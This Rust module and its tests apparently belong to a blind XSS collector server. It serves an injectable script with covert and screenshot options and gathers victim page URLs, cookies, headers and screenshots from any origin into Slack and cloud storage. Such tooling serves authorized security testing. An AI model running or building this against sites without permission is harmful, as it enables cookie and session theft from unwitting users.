mod collect;
mod script;

use std::sync::Arc;

use axum::{
    extract::DefaultBodyLimit,
    http::Method,
    routing::{get, post},
    Router,
};
use tower::ServiceBuilder;
use tower_http::{cors::CorsLayer, trace::TraceLayer};

use crate::middleware::request_id;
use crate::pipeline::Collector;

/// Screenshots arrive inline as base64, well above axum's default limit.
const MAX_REPORT_BYTES: usize = 16 * 1024 * 1024;

#[derive(Clone)]
pub struct AppState {
    pub collector: Arc<Collector>,
    pub extract_url: Arc<str>,
}

/// The payload runs on arbitrary third-party origins, so every origin is allowed.
fn build_cors() -> CorsLayer {
    CorsLayer::new()
        .allow_origin(tower_http::cors::Any)
        .allow_methods([Method::GET, Method::POST, Method::OPTIONS])
        .allow_headers(tower_http::cors::Any)
}

pub fn build_app(state: AppState) -> Router {
    Router::new()
        .route("/", get(script::render_payload))
        .route(
            "/collect",
            post(collect::collect).layer(DefaultBodyLimit::max(MAX_REPORT_BYTES)),
        )
        .layer(
            ServiceBuilder::new()
                .layer(TraceLayer::new_for_http())
                .layer(build_cors())
                .layer(axum::middleware::from_fn(request_id)),
        )
        .with_state(state)
}

#[cfg(test)]
mod tests {
    use super::collect::ACKNOWLEDGEMENT;
    use super::*;
    use axum::body::{to_bytes, Body};
    use axum::http::{header, Request, StatusCode};
    use base64::{engine::general_purpose, Engine as _};
    use bxss_core::{AppConfig, Endpoints, Environment, ZERO_FINGERPRINT};
    use tower::ServiceExt;
    use wiremock::matchers::{method, path, path_regex};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    const TOKEN_SECRET: &str = "projects/p/secrets/slack-token/versions/latest";
    const CHANNEL_SECRET: &str = "projects/p/secrets/slack-channel/versions/latest";
    const SLACK_PATH: &str = "/api/chat.postMessage";
    const UPLOAD_PATH: &str = "/upload/storage/v1/b/bxss-screens/o";
    const PNG_DATA_URL: &str = "data:image/png;base64,iVBORw0KGgo=";

    fn test_config(mock_uri: &str) -> AppConfig {
        AppConfig {
            env: Environment::Test,
            bind_addr: "127.0.0.1:0".parse().expect("addr"),
            log_level: "debug".to_string(),
            extract_url: "https://collector.example.com".to_string(),
            slack_token_secret_name: TOKEN_SECRET.to_string(),
            slack_channel_secret_name: CHANNEL_SECRET.to_string(),
            storage_bucket: "bxss-screens".to_string(),
            hmac_access_id: "GOOG1EXAMPLE".to_string(),
            hmac_secret: "secret".to_string(),
            gcp_access_token: Some("test-token".to_string()),
            http_timeout_secs: 5,
            endpoints: Endpoints {
                secret_manager_url: mock_uri.to_string(),
                storage_url: mock_uri.to_string(),
                signing_host: "https://storage.googleapis.com".to_string(),
                metadata_url: mock_uri.to_string(),
                slack_api_url: format!("{mock_uri}/api"),
            },
        }
    }

    fn test_app(server: &MockServer) -> Router {
        let config = test_config(&server.uri());
        let collector = Collector::from_config(&config).expect("collector");
        build_app(AppState {
            collector: Arc::new(collector),
            extract_url: Arc::from(config.extract_url.as_str()),
        })
    }

    async fn mount_secrets(server: &MockServer) {
        for (name, value) in [(TOKEN_SECRET, "xoxb-test"), (CHANNEL_SECRET, "C0123")] {
            Mock::given(method("GET"))
                .and(path(format!("/v1/{name}:access")))
                .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
                    "name": name,
                    "payload": { "data": general_purpose::STANDARD.encode(value) }
                })))
                .mount(server)
                .await;
        }
    }

    async fn mount_slack(server: &MockServer, status: u16, expected_calls: u64) {
        Mock::given(method("POST"))
            .and(path(SLACK_PATH))
            .respond_with(
                ResponseTemplate::new(status).set_body_json(serde_json::json!({ "ok": true })),
            )
            .expect(expected_calls)
            .mount(server)
            .await;
    }

    async fn mount_upload(server: &MockServer) {
        Mock::given(method("POST"))
            .and(path(UPLOAD_PATH))
            .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({})))
            .mount(server)
            .await;
    }

    fn collect_request(body: &serde_json::Value) -> Request<Body> {
        Request::builder()
            .method("POST")
            .uri("/collect")
            .header(header::CONTENT_TYPE, "text/plain;charset=UTF-8")
            .header("x-forwarded-for", "198.51.100.1")
            .body(Body::from(body.to_string()))
            .expect("request")
    }

    async fn body_text(response: axum::response::Response) -> String {
        let bytes = to_bytes(response.into_body(), usize::MAX)
            .await
            .expect("body bytes");
        String::from_utf8(bytes.to_vec()).expect("utf-8 body")
    }

    async fn slack_messages(server: &MockServer) -> Vec<serde_json::Value> {
        server
            .received_requests()
            .await
            .expect("recorded requests")
            .iter()
            .filter(|r| r.url.path() == SLACK_PATH)
            .map(|r| serde_json::from_slice(&r.body).expect("slack json"))
            .collect()
    }

    async fn uploaded_keys(server: &MockServer) -> Vec<String> {
        server
            .received_requests()
            .await
            .expect("recorded requests")
            .iter()
            .filter(|r| r.url.path() == UPLOAD_PATH)
            .filter_map(|r| {
                r.url
                    .query_pairs()
                    .find(|(k, _)| k == "name")
                    .map(|(_, v)| v.into_owned())
            })
            .collect()
    }

    // -------------------------------------------------------------------------
    // GET /: payload rendering
    // -------------------------------------------------------------------------

    async fn render(app: Router, uri: &str) -> (StatusCode, Option<String>, String) {
        let response = app
            .oneshot(Request::builder().uri(uri).body(Body::empty()).expect("request"))
            .await
            .expect("response");
        let status = response.status();
        let content_type = response
            .headers()
            .get(header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string);
        (status, content_type, body_text(response).await)
    }

    #[tokio::test]
    async fn payload_defaults_enable_everything() {
        let server = MockServer::start().await;
        let (status, content_type, script) = render(test_app(&server), "/").await;

        assert_eq!(status, StatusCode::OK);
        assert_eq!(content_type.as_deref(), Some(crate::payload::CONTENT_TYPE));
        assert!(script.contains(r#""enableExternalCalls":true,"takeScreenshot":true"#));
        assert!(script.contains("\"https://collector.example.com\""));
    }

    #[tokio::test]
    async fn payload_b_flag_overrides_c_flag() {
        let server = MockServer::start().await;
        let (status, _, script) = render(test_app(&server), "/?n=x&c=1&b=1").await;

        assert_eq!(status, StatusCode::OK);
        assert!(
            script.contains(r#""enableExternalCalls":false,"takeScreenshot":true,"clientName":"x""#),
            "unexpected config in script"
        );
    }

    #[tokio::test]
    async fn payload_covert_mode_and_forced_fingerprint() {
        let server = MockServer::start().await;
        let (_, _, script) = render(
            test_app(&server),
            "/?c&f=1b4e28ba-2fa1-11d2-883f-0016d3cca427",
        )
        .await;

        assert!(script.contains(r#""enableExternalCalls":false,"takeScreenshot":false"#));
        assert!(script.contains(r#""forcedFingerprint":"1b4e28ba-2fa1-11d2-883f-0016d3cca427""#));
    }

    #[tokio::test]
    async fn payload_repeated_covert_flag_stays_covert() {
        let server = MockServer::start().await;
        let (status, _, script) = render(test_app(&server), "/?c=1&c=1").await;

        assert_eq!(status, StatusCode::OK);
        assert!(script.contains(r#""enableExternalCalls":false,"takeScreenshot":false"#));
    }

    #[tokio::test]
    async fn payload_repeated_name_keeps_first_value() {
        let server = MockServer::start().await;
        let (status, _, script) = render(test_app(&server), "/?n=a&n=b&b").await;

        assert_eq!(status, StatusCode::OK);
        assert!(
            script.contains(r#""enableExternalCalls":false,"takeScreenshot":true,"clientName":"a""#),
            "unexpected config in script"
        );
    }

    // -------------------------------------------------------------------------
    // POST /collect: pipeline
    // -------------------------------------------------------------------------

    #[tokio::test]
    async fn collect_dispatches_notification() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_slack(&server, 200, 1).await;

        let response = test_app(&server)
            .oneshot(collect_request(&serde_json::json!({
                "fingerprint": "f-1",
                "url": "https://victim.example/admin",
                "cookies": "sid=1"
            })))
            .await
            .expect("response");

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(body_text(response).await, ACKNOWLEDGEMENT);

        let messages = slack_messages(&server).await;
        assert_eq!(messages.len(), 1);
        let message = &messages[0];
        assert_eq!(message["channel"], "C0123");
        let blocks = message["blocks"].as_array().expect("blocks");
        assert_eq!(blocks.len(), 12);
        assert_eq!(blocks[2]["fields"][0]["text"], "*Client IP:*\n198.51.100.1");
        assert_eq!(blocks[2]["fields"][1]["text"], "*Fingerprint:*\nf-1");
        assert_eq!(blocks[3]["text"]["text"], "*URL:*\n`https://victim.example/admin`");

        let auth = server
            .received_requests()
            .await
            .expect("recorded requests")
            .into_iter()
            .find(|r| r.url.path() == SLACK_PATH)
            .and_then(|r| r.headers.get("authorization").cloned())
            .expect("authorization header");
        assert_eq!(auth.to_str().ok(), Some("Bearer xoxb-test"));
    }

    #[tokio::test]
    async fn collect_acknowledges_when_slack_fails() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_slack(&server, 500, 1).await;

        let response = test_app(&server)
            .oneshot(collect_request(&serde_json::json!({ "url": "https://v.example" })))
            .await
            .expect("response");

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(body_text(response).await, ACKNOWLEDGEMENT);
    }

    #[tokio::test]
    async fn collect_skips_dispatch_without_secrets() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .and(path_regex(r"^/v1/.*:access$"))
            .respond_with(ResponseTemplate::new(403))
            .mount(&server)
            .await;
        mount_slack(&server, 200, 0).await;

        let response = test_app(&server)
            .oneshot(collect_request(&serde_json::json!({})))
            .await
            .expect("response");

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(body_text(response).await, ACKNOWLEDGEMENT);
    }

    #[tokio::test]
    async fn collect_acknowledges_malformed_body() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_slack(&server, 200, 0).await;

        let response = test_app(&server)
            .oneshot(
                Request::builder()
                    .method("POST")
                    .uri("/collect")
                    .body(Body::from("{not json"))
                    .expect("request"),
            )
            .await
            .expect("response");

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(body_text(response).await, ACKNOWLEDGEMENT);
    }

    #[tokio::test]
    async fn collect_appends_screenshot_block() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_upload(&server).await;
        mount_slack(&server, 200, 1).await;

        let response = test_app(&server)
            .oneshot(collect_request(&serde_json::json!({
                "clientname": "acme",
                "screenshot": PNG_DATA_URL
            })))
            .await
            .expect("response");
        assert_eq!(response.status(), StatusCode::OK);

        let keys = uploaded_keys(&server).await;
        assert_eq!(keys.len(), 1);
        assert!(
            keys[0].starts_with(&format!("clients/acme/{ZERO_FINGERPRINT}/")),
            "got {}",
            keys[0]
        );

        let messages = slack_messages(&server).await;
        let blocks = messages[0]["blocks"].as_array().expect("blocks");
        assert_eq!(blocks.len(), 13);
        let image = &blocks[12];
        assert_eq!(image["type"], "image");
        assert_eq!(image["alt_text"], "GCP Screenshot");
        let url = image["image_url"].as_str().expect("image url");
        assert!(url.contains(&keys[0]), "signed URL {url} should reference {}", keys[0]);
        assert!(url.contains("X-Goog-Expires=900"));
    }

    #[tokio::test]
    async fn collect_without_client_name_stores_under_all() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_upload(&server).await;
        mount_slack(&server, 200, 1).await;

        test_app(&server)
            .oneshot(collect_request(&serde_json::json!({
                "fingerprint": "f-9",
                "screenshot": PNG_DATA_URL
            })))
            .await
            .expect("response");

        let keys = uploaded_keys(&server).await;
        assert!(keys[0].starts_with("all/f-9/"), "got {}", keys[0]);
    }

    #[tokio::test]
    async fn collect_storage_failure_aborts_notification() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        Mock::given(method("POST"))
            .and(path(UPLOAD_PATH))
            .respond_with(ResponseTemplate::new(403))
            .mount(&server)
            .await;
        mount_slack(&server, 200, 0).await;

        let response = test_app(&server)
            .oneshot(collect_request(&serde_json::json!({ "screenshot": PNG_DATA_URL })))
            .await
            .expect("response");

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(body_text(response).await, ACKNOWLEDGEMENT);
    }

    #[tokio::test]
    async fn concurrent_collects_store_distinct_keys() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_upload(&server).await;
        mount_slack(&server, 200, 2).await;

        let app = test_app(&server);
        let body = serde_json::json!({
            "clientname": "acme",
            "fingerprint": "same",
            "screenshot": PNG_DATA_URL
        });
        let (a, b) = futures::join!(
            app.clone().oneshot(collect_request(&body)),
            app.clone().oneshot(collect_request(&body)),
        );
        assert_eq!(a.expect("a").status(), StatusCode::OK);
        assert_eq!(b.expect("b").status(), StatusCode::OK);

        let keys = uploaded_keys(&server).await;
        assert_eq!(keys.len(), 2);
        assert_ne!(keys[0], keys[1]);
    }

    #[tokio::test]
    async fn headers_block_is_json_of_request_headers() {
        let server = MockServer::start().await;
        mount_secrets(&server).await;
        mount_slack(&server, 200, 1).await;

        let request = Request::builder()
            .method("POST")
            .uri("/collect")
            .header("x-forwarded-for", "198.51.100.1")
            .header("user-agent", "Mozilla/5.0")
            .header("accept", "*/*")
            .body(Body::from("{}"))
            .expect("request");
        test_app(&server).oneshot(request).await.expect("response");

        let messages = slack_messages(&server).await;
        let blocks = messages[0]["blocks"].as_array().expect("blocks");
        assert_eq!(
            blocks[11]["text"]["text"],
            "*Headers:*\n`{\"accept\":\"*/*\",\"user-agent\":\"Mozilla/5.0\",\"x-forwarded-for\":\"198.51.100.1\"}`"
        );
    }

    #[tokio::test]
    async fn cors_preflight_allows_any_origin() {
        let server = MockServer::start().await;
        let response = test_app(&server)
            .oneshot(
                Request::builder()
                    .method("OPTIONS")
                    .uri("/collect")
                    .header(header::ORIGIN, "https://victim.example")
                    .header(header::ACCESS_CONTROL_REQUEST_METHOD, "POST")
                    .header(header::ACCESS_CONTROL_REQUEST_HEADERS, "content-type")
                    .body(Body::empty())
                    .expect("request"),
            )
            .await
            .expect("response");

        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(
            response
                .headers()
                .get(header::ACCESS_CONTROL_ALLOW_ORIGIN)
                .and_then(|v| v.to_str().ok()),
            Some("*")
        );
    }
}
